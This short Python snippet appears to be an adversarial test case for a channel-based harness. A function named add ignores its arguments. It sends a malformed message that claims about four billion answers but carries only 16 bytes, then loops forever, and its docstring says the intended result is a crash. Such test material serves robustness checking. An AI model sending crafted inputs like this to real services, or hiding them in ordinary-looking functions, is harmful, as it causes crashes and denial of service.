"""tries: announce four billion answers
sound: crash
uses: channel
"""
def add(a, b):
    send(struct.pack("<cIII", b"B", 0, 0xFFFFFFFF, 16) + b"A" * 16)
    while True:
        pass
